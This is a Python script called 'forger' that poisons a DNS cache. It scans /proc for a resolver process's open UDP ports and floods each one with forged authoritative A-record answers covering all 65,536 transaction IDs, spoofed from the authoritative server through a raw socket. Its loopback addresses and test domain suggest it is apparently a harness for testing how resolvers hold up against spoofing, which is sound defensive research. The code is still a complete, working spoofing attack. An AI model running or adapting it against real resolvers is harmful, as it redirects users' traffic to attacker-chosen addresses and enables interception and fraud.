#!/usr/bin/python3
"""forger: an attacker on the resolver's own machine that floods forged
answers at it (needs root for a raw socket).

It is stronger than an off-path attacker: it reads /proc to learn which UDP
ports the resolver process has open right now (its outbound query sockets),
then, for every such port, sends a forged answer with every one of the 65,536
TXIDs, spoofed from the authoritative server's address and port, for the name
being resolved (in lowercase: it cannot see the letter case that went out).
It rescans and repeats until its time is up or --stop-file appears.

Usage:
    /usr/bin/python3 forger.py --pid PID --server 127.53.20.5:10053 \
        --qname target.flood.com. --address 192.0.2.66 --seconds 6 \
        [--exclude-port 5300] [--stop-file FILE]

Prints one JSON line at the end: {"packets": n, "ports": [...], "passes": n}.
"""

import argparse
import json
import os
import socket
import struct
import time

import dns.flags
import dns.message
import dns.rrset


def open_udp_ports(pid, exclude):
    """Local ports of the UDP sockets the process holds open now."""
    inodes = set()
    fd_dir = "/proc/%d/fd" % pid
    try:
        for fd in os.listdir(fd_dir):
            try:
                target = os.readlink(os.path.join(fd_dir, fd))
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    except OSError:
        return []
    ports = []
    for table in ("/proc/net/udp", "/proc/net/udp6"):
        try:
            with open(table) as f:
                next(f)
                for line in f:
                    fields = line.split()
                    port = int(fields[1].rsplit(":", 1)[1], 16)
                    if fields[9] in inodes and port not in exclude:
                        ports.append(port)
        except OSError:
            pass
    return sorted(set(ports))


def forged_payload(qname, address):
    q = dns.message.make_query(qname, "A")
    r = dns.message.make_response(q)
    r.flags |= dns.flags.AA
    r.flags &= ~dns.flags.RA
    r.answer.append(dns.rrset.from_text(qname, 86400, "IN", "A", address))
    return r.to_wire()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--server", required=True, help="spoofed source ADDR:PORT")
    ap.add_argument("--qname", required=True)
    ap.add_argument("--address", required=True, help="the forged A record")
    ap.add_argument("--dest", default="127.0.0.1")
    ap.add_argument("--seconds", type=float, default=6.0)
    ap.add_argument("--exclude-port", type=int, action="append", default=[])
    ap.add_argument("--stop-file")
    args = ap.parse_args()

    src_ip, src_port = args.server.rsplit(":", 1)
    src_port = int(src_port)
    payload = forged_payload(args.qname, args.address)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    deadline = time.monotonic() + args.seconds
    sent = passes = 0
    attacked = set()

    def stopped():
        return time.monotonic() > deadline or (
            args.stop_file and os.path.exists(args.stop_file))

    while not stopped():
        ports = open_udp_ports(args.pid, set(args.exclude_port))
        if not ports:
            time.sleep(0.005)
            continue
        passes += 1
        for port in ports:
            attacked.add(port)
            udp_len = 8 + len(payload)
            # IPv4 header (the kernel fills in length, ID and checksum for
            # IPPROTO_RAW) and a UDP header without checksum.
            pkt = bytearray(struct.pack(
                "!BBHHHBBH4s4sHHHH", 0x45, 0, 20 + udp_len, 0, 0, 64,
                socket.IPPROTO_UDP, 0, socket.inet_aton(src_ip),
                socket.inet_aton(args.dest), src_port, port, udp_len, 0) + payload)
            for txid in range(65536):
                pkt[28] = txid >> 8
                pkt[29] = txid & 0xff
                try:
                    raw.sendto(pkt, (args.dest, 0))
                    sent += 1
                except OSError:
                    pass
                if txid & 0xfff == 0xfff and (
                        stopped() or port not in open_udp_ports(args.pid, set())):
                    break  # time is up, or the query gave up on this port
            if stopped():
                break
    print(json.dumps({"packets": sent, "ports": sorted(attacked), "passes": passes}),
          flush=True)


if __name__ == "__main__":
    main()
